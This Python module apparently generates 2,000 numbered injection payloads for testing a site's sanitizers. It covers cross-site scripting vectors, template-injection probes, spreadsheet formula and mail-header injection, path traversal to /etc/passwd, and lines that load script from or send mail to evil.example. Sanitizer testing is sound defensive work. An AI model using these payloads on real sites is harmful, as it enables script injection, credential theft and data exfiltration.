# ruff: noqa: E501  # a text in two lines would be another text
"""Two thousand texts that want to become programs, made by rule, never at random.

Each calls `hit(N)` with its own number where a browser runs it, so a page that
runs one says which. Every place where text is written has its own way out of
it: HTML, attributes, addresses, strings of scripts, blocks of JSON-LD, styles,
SVG, templates, rich text, names of files, cells, lines of calendars, heads of
mails, and the markup of our papers.
"""

import base64
import itertools
from collections.abc import Iterator

COUNT = 2_000

_TAGS = (
    "a", "abbr", "article", "audio", "b", "body", "button", "details", "dialog",
    "div", "embed", "form", "frameset", "iframe", "image", "img", "input",
    "isindex", "keygen", "link", "marquee", "math", "meter", "object", "option",
    "p", "picture", "progress", "select", "source", "span", "style", "svg",
    "table", "td", "textarea", "title", "track", "video", "x",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle",
    "onstart", "onanimationstart", "onpageshow", "onbegin", "onpointerenter",
    "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_BETWEEN = (" ", "/", "\t", "\n", "\x0c", " x='>' ", "/x/", "\r\n")
_STARTS = (
    "src=x ", "autofocus tabindex=1 ", "open ", "href=x ", "data=x ",
    "style=animation-name:x ", "style=content-visibility:auto ", "",
)  # fmt: skip
_OUT = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>",
    "</style>", "</noscript>", "</template>", "</select>", "</svg>", "?>", "%>",
)  # fmt: skip


def _elements() -> Iterator[str]:
    """Elements that run something by themselves, or when they are touched."""
    combined = itertools.product(_EVENTS, _TAGS)
    for number, (event, tag) in enumerate(combined):
        between = _BETWEEN[number % len(_BETWEEN)]
        start = _STARTS[number % len(_STARTS)]
        out = _OUT[number % len(_OUT)]
        yield f"{out}<{tag}{between}{start}{event}=hit(§)>"


def _scripts() -> Iterator[str]:
    bodies = (
        "<script>hit(§)</script>",
        "<ScRiPt/x>hit(§)</sCrIpT >",
        "<script\n>hit(§)</script\n>",
        "<script src=data:,hit(§)></script>",
        "<script src=//evil.example/?hit(§)></script>",
        "<script type=module>hit(§)</script>",
        "<script xlink:href=data:,hit(§) />",
        "<scr<script>ipt>hit(§)</scr</script>ipt>",
        "<<script>hit(§)//<</script>",
        "<script>hit(§)<!-- ",
        "<!--<script>--><script>hit(§)</script>",
        "<noscript><p title='</noscript><script>hit(§)</script>'>",
        "<iframe srcdoc='<script>parent.hit(§)</script>'>",
        '<iframe srcdoc="&lt;script&gt;parent.hit(§)&lt;/script&gt;">',
        "<object data='data:text/html,<script>parent.hit(§)</script>'>",
        "<embed src='data:text/html,<script>parent.hit(§)</script>'>",
        "<meta http-equiv=refresh content='0;url=javascript:hit(§)'>",
        "<base href=//evil.example/><script src=hit(§)></script>",
        "<link rel=stylesheet href='data:text/css,*{x:hit(§)}'>",
        "<form action=javascript:hit(§)><button autofocus>",
        "<button form=x formaction=javascript:hit(§)>",
        "<isindex action=javascript:hit(§) type=image>",
        "<div hx-get=/ hx-trigger=load hx-on::after-request='hit(§)'>",
        "<div hx-on:load=hit(§) data-hx-on-load=hit(§)>",
        "<div hx-vals='js:{x:hit(§)}' hx-trigger=load hx-get=/>",
        "<a data-action='click->x#y' onclick=hit(§)>",
    )
    for out, body in itertools.product(_OUT, bodies):
        yield out + body


def _attributes() -> Iterator[str]:
    quotes = ('"', "'", "`", "", "&quot;", "&#34;", '\\"', "\u201d", '"\u00a0', '"/')
    tails = (
        " onmouseover=hit(§) x=",
        " autofocus onfocus=hit(§) x=",
        " style=animation-name:x onanimationstart=hit(§) x=",
        "\nonpointerenter=hit(§)\n",
        "\tonclick\t=\thit(§)\t",
        "/onload=hit(§)//",
        " accesskey=x onclick=hit(§) x=",
        " srcdoc='<script>parent.hit(§)</script>' x=",
        " formaction=javascript:hit(§) x=",
        " popovertarget=x onbeforetoggle=hit(§) x=",
    )
    for quote, tail in itertools.product(quotes, tails):
        yield f"x{quote}{tail}{quote}"


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:",
        "java\r\nscript:", " javascript:", "\x01javascript:", "\x1fjavascript:",
        "javascript&colon;", "&#106;avascript:", "java&Tab;script:",
        "javascript:/**/", "javascript://%0a", "javascript://x/%0d%0a",
        "javascript:\u2028", "vbscript:", "livescript:", "view-source:javascript:",
        "feed:javascript:", "jar:javascript:", "//javascript:", "javascript\u200b:",
    )  # fmt: skip
    ends = ("hit(§)", "hit(§)//https://x.example", "'<svg/onload=hit(§)>'", "hit`§`")
    for scheme, end in itertools.product(schemes, ends):
        yield scheme + end
    for kind in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"):
        yield f"data:{kind},<script>parent.hit(§)</script>"
        yield f"data:{kind};base64,§b64§"
    for quote in ('"', "'", ")", "`", "&#34;"):
        yield f"https://x.example/?a={quote}onmouseover=hit(§)//"
        yield f"https://x.example/{quote}><script>hit(§)</script>"
        yield f"https://x.example/#{quote};hit(§);//"
        yield f"https://x.example\\@evil.example/{quote}><svg/onload=hit(§)>"


def _strings() -> Iterator[str]:
    quotes = ("'", '"', "`", "\\'", '\\"', "\u2028'", "</script><script>'", "*/", "\n")
    ends = (
        ";hit(§);//", "-hit(§)-", "+hit(§)+", ");hit(§);//", "});hit(§);//",
        "]);hit(§);//", ";hit(§)\n//", "||hit(§)||", "${hit(§)}", "-(()=>hit(§))()-",
    )  # fmt: skip
    for quote, end in itertools.product(quotes, ends):
        yield quote + end
    for number in range(20):
        yield f"\\u003c/script\\u003e{'<' * (number % 4 + 1)}script>hit(§)</script>"
    data = (
        '"}</script><script>hit(§)</script>', '"}]</script ><svg onload=hit(§)>',
        '<!--<script>"}</script>--><script>hit(§)</script>', '","@type":"x","a":"hit(§)',
        '"}\n</script\n><script>hit(§)</script>', "</script/x><script>hit(§)</script>",
    )  # fmt: skip
    yield from data


def _styles() -> Iterator[str]:
    for out in ("", '"', "'", ";", "}", "*/", "</style>", "<style>"):
        yield f"{out}x:expression(hit(§))"
        yield f"{out}background:url(javascript:hit(§))"
        yield f"{out}@import'javascript:hit(§)';"
        yield f"{out}}}*{{behavior:url(#x);-moz-binding:url(data:,hit(§))}}"
        yield f"{out}<style>*{{animation:x}}</style><p onanimationstart=hit(§)>"


def _mutations() -> Iterator[str]:
    """Texts that change their meaning when a browser writes and reads them again."""
    inner = (
        "<img src=x onerror=hit(§)>",
        "<svg onload=hit(§)>",
        "<script>hit(§)</script>",
    )
    frames = (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
        "<svg></p><style><a id='</style>{}'>",
        "<svg><style><!--</style>{}--></svg>",
        "<noscript><p title='</noscript>{}'>",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<math><annotation-xml encoding=text/html>{}",
        "<svg><foreignObject>{}</foreignObject></svg>",
        "<svg><desc>{}</desc></svg>",
        "<svg><animate attributeName=href values=javascript:hit(§) /><a>x{}",
        "<svg><set attributeName=onmouseover to=hit(§)>{}",
        "<svg><use href='data:image/svg+xml,<svg id=x>{}'>",
        "<table><td>{}<tr><svg><title><style>",
        "<select><template shadowrootmode=open>{}</template>",
        "<template><s>{}</s></template>",
        "<xmp><p title='</xmp>{}'>",
        "<listing>&lt;img onerror=hit(§) src=x&gt;{}",
        "<textarea><p title='</textarea>{}'>",
        "<title><p title='</title>{}'>",
        "<a href='x&#x0A;&quot;{}'>x</a>",
        "<![CDATA[><{}]]>",
        "<?xml version='1.0'?>{}",
        "<!doctype x [<!entity x '{}'>]>&x;",
    )  # fmt: skip
    for frame, text in itertools.product(frames, inner):
        yield frame.replace("{}", text)


def _letters() -> Iterator[str]:
    """Signs that turn into others, or hide what stands there."""
    yield from (
        "+ADw-script+AD4-hit(§)+ADw-/script+AD4-",
        "\uff1cscript\uff1ehit(§)\uff1c/script\uff1e",
        "\ufe64script\ufe65hit(§)\ufe64/script\ufe65",
        "\u2039script\u203ahit(§)\u2039/script\u203a",
        "<\u017fcript>hit(§)</\u017fcript>",
        "<scr\u0131pt>hit(§)</scr\u0131pt>",
        "<\u0073\u0301cript>hit(§)</script>",
        "%3Cscript%3Ehit(§)%3C/script%3E",
        "%253Cscript%253Ehit(§)%253C/script%253E",
        "&lt;script&gt;hit(§)&lt;/script&gt;",
        "&#60;script&#62;hit(§)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;hit(§)",
        "\\u003cscript\\u003ehit(§)\\u003c/script\\u003e",
        "\\x3cscript\\x3ehit(§)\\x3c/script\\x3e",
        "\u00bcscript\u00behit(§)\u00bc/script\u00be",
    )
    turns = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c\u200b\u2060\ufeff\u2028\u2029\u0085"
    for sign in turns:
        yield f"{sign}<script>hit(§)</script>{sign}"
        yield f"<scr{sign}ipt>hit(§)</scr{sign}ipt>"
        yield f'x{sign}" onmouseover{sign}=hit(§) x="'


def _templates() -> Iterator[str]:
    """Each would leave `made§` behind if a template engine read it."""
    yield from (
        "{{ 'made'|add:'§' }}<script>hit(§)</script>",
        "{% load static %}{% firstof 'made'|add:'§' %}<img src=x onerror=hit(§)>",
        "{% autoescape off %}<svg onload=hit(§)>{% endautoescape %}",
        "{% include 'layouts/public.html' %}{{ settings.SECRET_KEY }}hit(§)",
        "<c-button onclick='hit(§)'>{{ 'made'|add:'§' }}</c-button>",
        "<c-icon name='x' label='\"><svg onload=hit(§)>' />",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}hit(§)",
        "{{ constructor.constructor('hit(§)')() }}",
        "{{= hit(§) }}", "<%= hit(§) %>", "#{hit(§)}", "${hit(§)}", "*{hit(§)}",
        "{name}{0.__class__}{municipality.slug} hit(§)",
        "%(name)s %s %n %x <script>hit(§)</script>",
        "[[${hit(§)}]]", "{{{ hit(§) }}}", "@{hit(§)}", "{@html '<svg onload=hit(§)>'}",
        "<p v-html='hit(§)' x-init='hit(§)' ng-app ng-csp>{{$eval('hit(§)')}}",
    )  # fmt: skip
    yield from (
        "[x](javascript:hit(§))",
        "[x](<javascript:hit(§)>)",
        '![x](x"onerror=hit(§) x=")',
        "<javascript:hit(§)>",
        "[x]: javascript:hit(§)\n[x]",
        "```\n</code></pre><script>hit(§)</script>\n```",
        "x<!-- -->\n<details open ontoggle=hit(§)>",
        '<a linktype="page" id="1" onclick="hit(§)">x</a>',
        '<a href="javascript:hit(§)">x</a><a href="data:text/html,hit(§)">y</a>',
        '<embed embedtype="image" id="1" format="left" alt=\'"><svg onload=hit(§)>\'/>',
        '<embed embedtype="media" url="javascript:hit(§)"/>',
        '{"blocks":[{"text":"<svg onload=hit(§)>","type":"unstyled","entityRanges":[]}]}',
        '{"entityMap":{"0":{"type":"LINK","data":{"url":"javascript:hit(§)"}}}}',
        "<p><b onmouseover=hit(§)>x</b><i style=x:expression(hit(§))>y</i></p>",
        "<p lang='x\"onclick=hit(§) x='>x</p>",
        "<h3><a href='https://x.example' target=_blank onclick=hit(§)>x</a></h3>",
    )


def _files() -> Iterator[str]:
    """Names of files, cells, lines of calendars, heads of mails, and papers."""
    yield from (
        '"><img src=x onerror=hit(§)>.pdf', "x.html\x2ehit(§).pdf", "x.svg;hit(§)",
        "../../../../etc/passwd<script>hit(§)</script>", "..\\..\\hit(§).exe",
        'a"\r\nContent-Type: text/html\r\n\r\n<script>hit(§)</script>.png',
        "\u202efdp.<script>hit(§)</script>", "con.hit(§)", "x%00.html<svg onload=hit(§)>",
        "=HYPERLINK(\"javascript:hit(§)\";\"x\")", "=cmd|' /C hit(§)'!A0",
        "+hit(§)", "-2+3+hit(§)", "@SUM(hit(§))", "\t=hit(§)", "\r=hit(§)", "\n=hit(§)",
        "|hit(§)", "\uff1dhit(§)", "\uff0bhit(§)", "=WEBSERVICE(\"//x.example/hit(§)\")",
        '";=hit(§);"', "',=hit(§),'", "=1+1\";\"<script>hit(§)</script>",
        "x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nX:hit(§)\r\nEND:VALARM",
        "x\nATTENDEE:mailto:hit§@evil.example", "x\\nATTENDEE:mailto:hit(§)",
        'x";ALTREP="javascript:hit(§)', "x\r\n ATTACH:javascript:hit(§)",
        "END:VEVENT\r\nEND:VCALENDAR\r\nhit(§)", "x:;,\\hit(§)",
        "x\r\nBcc: hit§@evil.example", "x\nContent-Type: text/html\n\n<script>hit(§)</script>",
        "=?utf-8?q?=3Cscript=3Ehit(§)=3C/script=3E?=", "x\r\n\r\n<svg onload=hit(§)>",
        "x\x0bBcc: hit§@evil.example", "x\u2028Bcc: hit§@evil.example",
        '#eval("hit(§)")', '#read("/etc/passwd")hit(§)', '#link("javascript:hit(§)")[x]',
        '#image("/etc/passwd")hit(§)', "#panic(\"hit(§)\")", "#include \"x.typ\" // hit(§)",
        "$ hit(§) $", "\\#hit(§) *x _y `z ~ @a <b> = c", '"]#hit(§)[', "#{while true {hit(§)}}",
    )  # fmt: skip


def _numbered(text: str, number: int) -> str:
    inner = f"<script>parent.hit({number})</script>".encode()
    text = text.replace("§b64§", base64.b64encode(inner).decode())
    return text.replace("§", str(number))


def _all() -> Iterator[str]:
    rare = (
        _scripts, _attributes, _addresses, _strings, _styles, _mutations, _letters,
        _templates, _files,
    )  # fmt: skip
    for kind in rare:
        yield from kind()
    yield from _elements()


def payloads() -> list[str]:
    """Return the texts; the number in each is its place."""
    found = list(dict.fromkeys(_all()))
    variants = [
        f"{out}{text}"
        for out in ('"', "'", "-->", "</p>", "\\", "\u202e")
        for text in found
        if not text.startswith(out)
    ]
    unique = list(dict.fromkeys(found + variants))[:COUNT]
    return [_numbered(text, number) for number, text in enumerate(unique)]
